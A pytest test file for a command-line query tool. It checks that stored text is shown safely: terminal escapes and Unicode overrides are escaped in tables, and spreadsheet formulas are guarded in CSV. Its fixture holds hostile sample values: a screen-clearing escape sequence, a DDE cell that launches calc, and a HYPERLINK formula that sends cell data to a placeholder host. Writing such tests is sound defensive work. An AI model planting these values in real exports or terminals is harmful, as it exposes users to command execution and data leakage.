"""What the CLI prints of stored text (issue 12, "Also"; §9 pipes).

Rows written with SQL put terminal escape sequences, Unicode direction
overrides, newlines and formulas into a real store, on SQLite and PostgreSQL.
Tables and Markdown show them escaped, one line per record; CSV keeps the
text but guards cells a spreadsheet would run (``--csv-raw`` turns that off);
JSON keeps every value exactly. A reader that stops reading (``| head``) is
no error, for every format.
"""
import csv
import io
import json
import os
import subprocess
import sys

import pytest
from click.testing import CliRunner

from smt_query.cli.output import clean_line, csv_cell, write
from smt_query.cli.query import query as query_command

from support import store_digest

SMT = os.path.join(os.path.dirname(sys.executable), "smt")
HOSTILE = {
    "reason": "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m\nsecond line",
    "outcome": "ok \u202eevil\u202c \x9b31m",
    "user": '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "main_file": "+cmd|' /C calc'!A0",
    "version": "@SUM(1+1)",
}
TAGS = ["two\nlines", "esc\x1b[5m", "-2+3"]
CONTROLS = [chr(c) for c in range(32) if chr(c) != "\n"] + ["\x7f", "\x9b", "\u202e", "\u2028"]


def _sql(uri, statements):
    """Run ``(sql, params)`` statements on the store with its own client."""
    if uri.startswith("postgres"):
        import psycopg2
        conn = psycopg2.connect(uri)
        with conn, conn.cursor() as cur:
            for sql, params in statements:
                cur.execute(sql, params)
        conn.close()
    else:
        import sqlite3
        conn = sqlite3.connect(uri)
        with conn:
            for sql, params in statements:
                conn.execute(sql.replace("%s", "?"), params)
        conn.close()


@pytest.fixture(scope="module")
def hostile(backend, tmp_path_factory):
    """A real project (``smt run`` twice) whose first record's text columns
    and tags were then rewritten with SQL; its second record is untouched."""
    from smt_query.demo import init_project, smt_run, store_uri
    path = str(tmp_path_factory.mktemp("hostile") / "proj")
    init_project(path, {"a": -1.5, "s": "-1.5", "f": "=1+1", "=cmd": 2, "n": 3},
                 store=backend.new_store())
    labels = [smt_run(path, "default.json", reason="plain"),
              smt_run(path, "default.json", reason="plain too")]
    uri = store_uri(path)
    sets = ", ".join(f'"{column}" = %s' for column in HOSTILE)
    statements = [(f"UPDATE django_store_record SET {sets}, tags = tags || %s WHERE label = %s",
                   (*HOSTILE.values(), "," + ",".join(TAGS), labels[0]))]
    for tag in TAGS:
        statements += [
            ("INSERT INTO django_store_tag (name) VALUES (%s)", (tag,)),
            ("INSERT INTO django_store_taggeditem (object_id, content_type_id, tag_id) "
             "SELECT r.db_id, c.id, t.id FROM django_store_record r, django_content_type c, "
             "django_store_tag t WHERE r.label = %s AND c.app_label = 'django_store' "
             "AND c.model = 'record' AND t.name = %s", (labels[0], tag))]
    _sql(uri, statements)
    return path, uri, labels


def smt(path, *args):
    done = subprocess.run([SMT, *args], cwd=path, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    return done.stdout


FIELDS = "label,tags,reason,outcome,user,main_file,version"


@pytest.mark.parametrize("fmt", ["table", "markdown"])
def test_tables_show_stored_controls_escaped(hostile, fmt):
    path, uri, labels = hostile
    before = store_digest(uri)
    out = smt(path, "query", "--fields", FIELDS, "--format", fmt)
    assert not any(c in out for c in CONTROLS), repr(out)
    lines = out.splitlines()
    assert len(lines) == 2 + len(labels)       # a header, a rule, one line per record
    first = next(line for line in lines if labels[0] in line)
    for shown in (r"\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m …", r"\u202eevil\u202c",
                  r"\x9b31m", r"two\nlines", r"esc\x1b[5m"):
        assert shown in first
    assert HOSTILE["user"] in first and HOSTILE["main_file"].replace("|", "\\|" if fmt ==
                                                                    "markdown" else "|") in first
    assert store_digest(uri) == before


def test_table_through_clirunner(hostile, chdir):
    path, _, labels = hostile
    chdir(path)
    result = CliRunner().invoke(query_command, ["--fields", FIELDS, "--label", labels[0]])
    assert result.exit_code == 0
    assert "\x1b" not in result.stdout and r"two\nlines" in result.stdout
    assert len(result.stdout.splitlines()) == 3


def test_csv_guards_formulas_json_keeps_all(hostile):
    path, uri, labels = hostile
    before = store_digest(uri)
    params = ["--param", "a", "--param", "s", "--param", "f", "--param", "=cmd", "--param", "n"]
    rows = list(csv.reader(io.StringIO(smt(path, "query", "--fields", FIELDS, *params,
                                           "--format", "csv"))))
    header, first = rows[0], dict(zip(rows[0], next(r for r in rows if r[0] == labels[0])))
    assert header == FIELDS.split(",") + ["a", "s", "f", "'=cmd", "n"]
    assert first["user"] == "'" + HOSTILE["user"]
    assert first["main_file"] == "'" + HOSTILE["main_file"]
    assert first["version"] == "'" + HOSTILE["version"]
    assert first["reason"] == HOSTILE["reason"]          # CSV keeps text as stored
    assert first["a"] == "-1.5" and first["n"] == "3"     # numbers stay numbers
    assert first["s"] == "'-1.5" and first["f"] == "'=1+1"  # text that looks like one: guarded
    raw = list(csv.reader(io.StringIO(smt(path, "query", "--fields", FIELDS, *params,
                                          "--format", "csv", "--csv-raw"))))
    assert raw[0][-2] == "=cmd"
    raw_first = dict(zip(raw[0], next(r for r in raw if r[0] == labels[0])))
    assert {k: raw_first[k] for k in HOSTILE} == HOSTILE
    assert raw_first["s"] == "-1.5" and raw_first["f"] == "=1+1"
    data = {d["label"]: d for d in json.loads(smt(path, "query", "--fields", FIELDS,
                                                  "--format", "json"))}
    assert {k: data[labels[0]][k] for k in HOSTILE} == HOSTILE   # JSON: exactly as stored
    assert set(TAGS) <= set(data[labels[0]]["tags"])
    assert store_digest(uri) == before


def test_compare_csv_guards_keys_and_values(hostile):
    path, _, labels = hostile
    rows = list(csv.reader(io.StringIO(smt(path, "compare", *labels, "--fields",
                                           "user,main_file", "--format", "csv"))))
    cells = {row[0]: row[1:] for row in rows[1:]}
    assert "'" + HOSTILE["user"] in cells["user"]
    assert "'" + HOSTILE["main_file"] in cells["main_file"]
    raw = list(csv.reader(io.StringIO(smt(path, "compare", *labels, "--fields", "user",
                                          "--format", "csv", "--csv-raw"))))
    assert HOSTILE["user"] in {row[0]: row[1:] for row in raw[1:]}["user"]


@pytest.mark.parametrize("text, value, shown", [
    ("=1+1", "=1+1", "'=1+1"), ("+1", "+1", "'+1"), ("-1", "-1", "'-1"), ("@A1", "@A1", "'@A1"),
    ("\t=1", "\t=1", "'\t=1"), ("\r=1", "\r=1", "'\r=1"), ("-1.5", -1.5, "-1.5"),
    ("-3", -3, "-3"), ("1e-05", 1e-05, "1e-05"), ("a=b", "a=b", "a=b"), ("", "", ""),
    ("true", True, "true"), ('["-1"]', ["-1"], '["-1"]'),
    ("a\rb\nc", "a\rb\nc", "a\rb\nc"),
])
def test_csv_cell(text, value, shown):
    assert csv_cell(text, value) == shown
    out = io.StringIO()
    write([{"x": value}], ["x"], "csv", out=out)
    assert list(csv.reader(io.StringIO(out.getvalue())))[1] == [shown]


def test_clean_line():
    assert clean_line("a\x1b[31mb\n\tc\u202ed\\x") == "a\\x1b[31mb\\n\\tc\\u202ed\\x"
    assert clean_line("μ😀 é – ok") == "μ😀 é – ok"


def test_saved_query_names_listed_escaped(hostile):
    path, _, _ = hostile
    saved = os.path.join(path, ".smt", "smt_query.json")
    with open(saved, "w", encoding="utf-8") as f:
        json.dump({"queries": {"q\x1b[2J": {"tag": ["x\x1b[5m"]}}}, f)
    try:
        out = smt(path, "query", "--saved")
    finally:
        os.remove(saved)
    assert "\x1b" not in out and out.splitlines()[2].startswith("q\\x1b[2J  --tag x\\x1b[5m")


# -- a reader that stops reading ---------------------------------------------------------

PIPES = [
    "smt query --format {fmt}",
    "smt query --format {fmt} --fields label,reason,outcome,tags,main_file --param optimizer.lr",
    "smt query --format json --with-parameters",
    "smt compare --on 2020 --format {fmt}",
]


@pytest.mark.parametrize("fmt", ["table", "csv", "json", "markdown", "labels"])
def test_closed_pipe_is_no_error(demo_project, fmt):
    """``smt ... | head -n 1`` (a real shell pipeline, pipefail): exit 0, nothing on stderr."""
    for command in PIPES:
        if "compare" in command and fmt == "labels":
            continue
        line = command.format(fmt=fmt)
        done = subprocess.run(["bash", "-o", "pipefail", "-c", f"{line} | head -n 1"],
                              cwd=demo_project.path, capture_output=True, text=True, timeout=600,
                              env={**os.environ, "PATH": os.path.dirname(SMT) + os.pathsep
                                   + os.environ["PATH"]})
        assert (done.returncode, done.stderr) == (0, ""), line
        assert len(done.stdout.splitlines()) == 1


def test_formats_and_rows_are_a_library_without_click():
    """The admin's export and Python callers write through smt_query.formats
    and smt_query.rows, which import neither click nor the CLI (nor Django,
    nor pandas)."""
    code = ("import sys, smt_query.formats, smt_query.rows; "
            "print(sorted(m for m in sys.modules if m.split('.')[0] in "
            "('click', 'django', 'pandas') or m.startswith('smt_query.cli')))")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                         check=True).stdout
    assert out.strip() == "[]"
